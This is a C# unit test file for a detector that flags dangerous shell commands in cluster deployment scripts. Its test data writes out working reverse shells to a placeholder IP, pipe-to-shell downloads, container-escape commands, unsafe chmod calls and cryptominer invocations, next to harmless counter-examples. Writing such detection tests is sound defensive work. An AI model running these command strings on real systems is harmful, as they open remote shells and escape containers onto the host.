using Gabion.Formats.Shell;
using Gabion.Rules.Cluster.Deploy;

namespace Gabion.Tests.Rules.Cluster;

public sealed class SuspectCommandTests
{
    [Theory]
    [InlineData("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", true)]
    [InlineData("sh -i 5<> /dev/udp/203.0.113.9/53", true)]
    [InlineData("nc 203.0.113.9 4444 -e /bin/sh", true)]
    [InlineData("ncat --exec /bin/bash 203.0.113.9 443", true)]
    [InlineData("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 1234 > /tmp/f", true)]
    [InlineData("socat TCP:203.0.113.9:4444 EXEC:/bin/sh", true)]
    [InlineData("python3 -c 'import socket,pty;s=socket.socket();pty.spawn(\"/bin/sh\")'", true)]
    [InlineData("nc -z db 5432", false)]
    [InlineData("until (echo > /dev/tcp/db/5432); do sleep 1; done", false)]
    [InlineData("socat TCP-LISTEN:80,fork TCP:web:8080", false)]
    [InlineData("python3 -c 'import socket; socket.create_connection((\"db\", 5432))'", false)]
    public void Knows_reverse_shells(string script, bool expected) => Assert.Equal(expected, Any(script, SuspectCommand.OpensReverseShell));

    [Theory]
    [InlineData("curl -fsSL https://get.example/i.sh | sh", true)]
    [InlineData("curl https://get.example/i.sh | tee /tmp/i.sh | sudo bash -s --", true)]
    [InlineData("wget -qO- https://get.example/i.py | python3 -", true)]
    [InlineData("sh -c \"$(curl -fsSL https://get.example/i.sh)\"", true)]
    [InlineData("eval \"$(wget -qO- https://get.example/env)\"", true)]
    [InlineData("curl -fsS https://api.example/health | grep ok", false)]
    [InlineData("curl -o /data/x.tgz https://files.example/x.tgz && tar xf /data/x.tgz", false)]
    [InlineData("TOKEN=$(curl https://vault.example/token) exec app", false)]
    public void Knows_downloads_that_run(string script, bool expected) => Assert.Equal(expected, Any(script, SuspectCommand.RunsDownload));

    [Theory]
    [InlineData("nsenter -t 1 -m -u -i -n sh", "enters other namespaces with nsenter")]
    [InlineData("exec chroot /host /bin/bash", "makes another file system its root with chroot")]
    [InlineData("modprobe overlay", "changes the node's kernel with modprobe")]
    [InlineData("mount /dev/sda1 /mnt", "mounts file systems")]
    [InlineData("docker run --rm -v /:/h alpine", "starts containers with docker")]
    [InlineData("echo '|/tmp/x' > /proc/sys/kernel/core_pattern", "rewrites a hook of the node's kernel")]
    [InlineData("mount", null)]
    [InlineData("docker ps", null)]
    [InlineData("app --mount /data --chroot", null)]
    public void Knows_what_reaches_for_the_node(string script, string? expected) =>
        Assert.Equal(expected, ShellScript.Parse(script).Commands.Select(SuspectCommand.ReachForTheNode).FirstOrDefault(found => found is not null));

    [Theory]
    [InlineData("chmod 777 /data", true)]
    [InlineData("chmod -R 0666 /data", true)]
    [InlineData("chmod a+rwx /data", true)]
    [InlineData("chmod o+w /data", true)]
    [InlineData("chmod u+s /bin/app", true)]
    [InlineData("chmod 4755 /bin/app", true)]
    [InlineData("chmod 1777 /tmp", false)]
    [InlineData("chmod 0750 /data", false)]
    [InlineData("chmod 2775 /data", false)]
    [InlineData("chmod g+w /data", false)]
    [InlineData("chmod u+x,go-w run.sh", false)]
    public void Knows_open_permissions(string script, bool expected) => Assert.Equal(expected, Any(script, SuspectCommand.OpensPermissions));

    [Theory]
    [InlineData("/tmp/xmrig --url pool.example:3333", true)]
    [InlineData("./a -o stratum+tcp://pool.example:3333", true)]
    [InlineData("java -jar determiner.jar", false)]
    public void Knows_miners(string text, bool expected) => Assert.Equal(expected, SuspectCommand.Mines(text));

    [Theory]
    [InlineData("exec sudo -E /usr/sbin/sshd -D", "exec,sudo,sshd")]
    [InlineData("env A=1 B=2 app --serve", "env,app")]
    [InlineData("/usr/bin/app sudo", "app")]
    [InlineData("$RUNNER sudo", "sudo")]
    public void Lists_the_programs_of_a_command(string script, string programs) =>
        Assert.Equal(programs, string.Join(',', ShellScript.Parse(script).Commands.SelectMany(SuspectCommand.Programs)));

    private static bool Any(string script, Func<SimpleCommand, bool> suspects) => ShellScript.Parse(script).Commands.Any(suspects);
}
